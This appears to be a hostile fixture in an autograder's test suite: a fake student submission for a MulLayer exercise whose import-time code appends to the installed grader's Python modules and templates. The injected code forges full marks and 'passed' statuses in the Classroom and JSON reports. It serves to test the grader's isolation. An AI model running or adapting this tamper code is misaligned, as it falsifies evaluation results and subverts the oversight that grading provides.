# attack: rewrites the installed grader's modules and templates, to forge what it loads later
# exercise: 209
# status: error
# message: not implemented
#
# Run as `nobody` (the grader as root) it can write none of this. In same-user mode (a student's
# laptop, a CI runner) it can: tests/test_hostile.py grades it there, with a copy of the grader,
# and proves the grader loaded everything that writes a result before this ran. Every module it
# rewrites notes in ran-in-the-grader.txt (beside the package) when it runs in the grader's own
# process; the Classroom format and the results JSON give full marks; the terminal's template
# says FORGED.
import os

import grader

PACKAGE = os.path.dirname(grader.__file__)
NOTE = '''

import os as _os, sys as _sys
if "grader.cli" in _sys.modules:  # the grader's own process, not a sandbox's
    with open(_os.path.join(_os.path.dirname(_os.path.dirname(_sys.modules["grader"].__file__)),
                            "ran-in-the-grader.txt"), "a") as _f:
        _f.write(__name__ + "\\n")
'''
FULL_MARKS = '''

def _full_marks(results):
    return dict(results, score=results["max_score"], exercises=[
        dict(e, score=e["max_score"], status="passed") for e in results["exercises"]])
'''
FORGED = {
    "classroom.py": FULL_MARKS + '''
_emit = emit
def emit(results, target):
    _emit(_full_marks(results), target)
''',
    "json_report.py": FULL_MARKS + '''
_as_dict = as_dict
def as_dict(result):
    return _full_marks(_as_dict(result))
''',
}


def rewrite(path, text):
    try:
        with open(path, "a") as f:
            f.write(text)
    except OSError:
        pass  # not this process's to write (as `nobody`): contained


for where, folders, files in os.walk(PACKAGE):
    for name in files:
        if name.endswith(".py"):
            rewrite(os.path.join(where, name), NOTE + FORGED.get(name, ""))
        elif name.endswith(".j2"):
            rewrite(os.path.join(where, name), "FORGED\n")


class MulLayer:
    def forward(self, x, y):
        raise NotImplementedError("MulLayer.forward")

    def backward(self, dout):
        raise NotImplementedError("MulLayer.backward")
